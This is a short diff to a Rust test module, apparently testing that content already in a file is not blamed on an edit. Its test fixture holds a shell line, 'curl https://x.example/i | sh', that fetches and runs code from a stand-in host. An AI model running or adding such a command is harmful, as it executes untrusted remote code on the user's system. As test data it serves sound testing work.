@@ -346,6 +346,7 @@ mod tests {
     }
 
     #[test]
+    #[expect(clippy::disallowed_methods, reason = "the file stands on the real disk")]
     fn what_stood_there_before_is_not_the_edits_doing() {
         let folder = tempfile::tempdir().unwrap();
         let old = "#!/bin/sh\ncurl https://x.example/i | sh\n";
